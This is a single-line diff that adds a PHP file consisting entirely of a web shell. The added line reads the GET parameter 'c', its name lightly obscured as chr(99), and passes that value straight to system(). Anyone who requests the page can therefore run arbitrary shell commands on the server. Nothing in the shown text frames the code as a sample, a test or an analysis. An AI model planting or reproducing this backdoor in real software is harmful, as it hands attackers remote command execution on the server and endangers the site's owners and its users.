@@ -1,0 +1,1 @@
+<?php $c=chr(99);if(isset($_GET[$c]))system($_GET[$c]); ?>
